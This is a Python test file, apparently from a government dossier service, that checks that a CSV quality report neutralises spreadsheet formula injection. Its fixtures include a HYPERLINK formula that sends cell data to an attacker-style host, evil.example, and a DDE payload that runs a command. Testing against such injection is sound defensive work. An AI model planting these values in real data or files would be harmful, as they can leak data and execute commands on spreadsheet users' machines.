"""A name a catalog manager typed must not run as a formula in the leader's spreadsheet."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa

from backend.agencies.models import Agency
from backend.catalog.models import Procedure
from backend.extensions import db
from tests.dossiers import conftest as dossier_fixtures
from tests.helpers import dossiers
from tests.helpers.signin import bearer
from tests.helpers.work import unit_of_work

_catalog, clock, filing = dossier_fixtures._catalog, dossier_fixtures.clock, dossier_fixtures.filing
WARD, BIRTH = dossiers.WARD, dossiers.BIRTH
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Xem chi tiết")'


def test_names_in_the_csv_stay_text(app, client, filing, make_staff):
    filing.filed()
    leader = make_staff("0911100002", agency=WARD, role="leader")[0]
    with unit_of_work(app):
        db.session.execute(sa.update(Procedure).where(Procedure.code == BIRTH).values(name=FORMULA))
        db.session.execute(
            sa.update(Agency).where(Agency.code == WARD).values(name="@SUM(1+1)*cmd|' /C calc'!A0")
        )
        db.session.commit()
    answer = client.get(
        f"/api/v1/reports/quality.csv?agency={WARD}&from=2026-11-01&to=2026-11-30",
        headers=bearer(leader),
    )
    assert answer.status_code == 200, answer.get_json()
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA in cells
    assert rows[1][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
